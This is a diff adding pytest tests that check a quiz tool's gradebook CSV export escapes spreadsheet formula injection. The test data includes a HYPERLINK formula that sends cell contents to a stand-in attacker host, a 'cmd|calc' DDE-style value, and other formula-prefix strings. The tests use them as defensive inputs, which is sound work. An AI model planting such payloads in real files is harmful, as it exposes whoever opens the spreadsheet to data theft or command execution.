@@ -204,3 +204,48 @@ def test_a_symlink_loop_in_the_banks_is_a_clear_problem(course):
     run = quiz("validate", cwd=course, env=_course_env(course), timeout=30)
     assert "Traceback" not in run.both and run.status in (1, 2), run.both
     assert "loop.yaml" in run.both, run.both
+
+
+# -- 5. no formula reaches the gradebook CSV ---------------------------------------------------
+
+def _sheets(course: Path) -> Path:
+    out = course / "sheets"
+    if not out.exists():
+        run = quiz("generate", "quizzes/lawfare-01.yaml", "-o", out, cwd=course, env=_course_env(course))
+        assert run.status == 0, run.both
+    return out
+
+
+def _responses_csv(course: Path, rows: list[tuple[str, str]]) -> Path:
+    import csv
+    import io
+
+    buf = io.StringIO()
+    w = csv.writer(buf)
+    w.writerow(["student", "student_id", "1"])
+    for name, ident in rows:
+        w.writerow([name, ident, "A"])
+    path = course / "responses.csv"
+    path.write_text(buf.getvalue(), encoding="utf-8")
+    return path
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?"&A2,"click")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1", " =1+2"]
+
+
+def test_gradebook_cells_never_start_a_formula(course):
+    import csv
+
+    rows = [(f, f) for f in FORMULAS] + [("Ann", "ann@example.edu"), ("Bob", "b@d=cmd|calc")]
+    responses = _responses_csv(course, rows)
+    book = course / "grades.csv"
+    run = quiz("grade", _sheets(course), responses, "--csv", book, cwd=course, env=_course_env(course))
+    assert "Traceback" not in run.both, run.both
+    cells = list(csv.reader(book.read_text(encoding="utf-8").splitlines()))
+    for row in cells[1:]:
+        for cell in row[:4]:
+            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t")), row
+    by_name = {row[0]: row for row in cells[1:]}
+    assert by_name["Ann"][3] == "ann@example.edu"
+    assert by_name["Bob"][3] == "" and by_name["Bob"][2] == "b@d=cmd|calc"  # not an address: stays an id
+    assert "'=HYPERLINK(" in by_name["'=HYPERLINK(\"https://evil.example/?\"&A2,\"click\")"][0]
